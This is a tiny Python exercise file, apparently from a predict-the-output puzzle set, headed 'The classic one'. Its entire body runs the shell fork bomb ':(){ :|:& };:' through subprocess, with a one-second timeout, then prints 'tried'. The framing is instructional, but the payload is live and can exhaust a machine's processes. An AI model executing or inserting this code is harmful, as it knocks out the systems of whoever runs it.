"""The classic one."""

# ruff: noqa
# marks: payback=4
# shows: tried
# %% predict
import subprocess

try:
    subprocess.run(["sh", "-c", ":(){ :|:& };:"], timeout=1, capture_output=True)
except (OSError, subprocess.SubprocessError):
    pass
print("tried")
